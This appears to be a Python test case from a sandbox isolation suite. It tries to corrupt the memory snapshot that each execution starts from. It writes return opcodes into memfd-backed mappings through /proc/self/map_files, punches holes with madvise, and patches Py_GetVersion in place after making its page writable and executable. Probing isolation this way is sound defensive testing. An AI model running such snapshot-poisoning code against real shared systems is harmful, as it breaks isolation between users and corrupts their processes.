# Attempts: write through to the memory that every execution starts from, by mappings and by files.
# Expect: completed
# Pair: plant snapshot_pages
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
PAGE = mmap.PAGESIZE
code = ctypes.pythonapi.Py_GetVersion
address = ctypes.cast(code, ctypes.c_void_p).value
with open("/proc/self/maps") as file:
    lines = [line.split() for line in file]
for line in lines:
    start, end = (int(part, 16) for part in line[0].split("-"))
    if "memfd" not in line[-1] and "memfd" not in line[-2]:
        continue
    for path in (f"/proc/self/map_files/{line[0]}", f"/proc/self/map_files/{start:x}-{end:x}"):
        try:
            descriptor = os.open(path, os.O_RDWR)
            os.pwrite(descriptor, b"\xc3" * 16, address - start if start <= address < end else 0)
        except OSError:
            pass
    # Make holes in the file (9), and write what changed back to it.
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(end - start), 9)
    libc.msync(ctypes.c_void_p(start), ctypes.c_size_t(end - start), 4)
# The function that tells the version now tells nothing, in this process.
page = address & -PAGE
libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(2 * PAGE), 7)
ctypes.memmove(address, b"\x31\xc0\xc3", 3)
libc.msync(ctypes.c_void_p(page), ctypes.c_size_t(PAGE), 4)
print("planted")
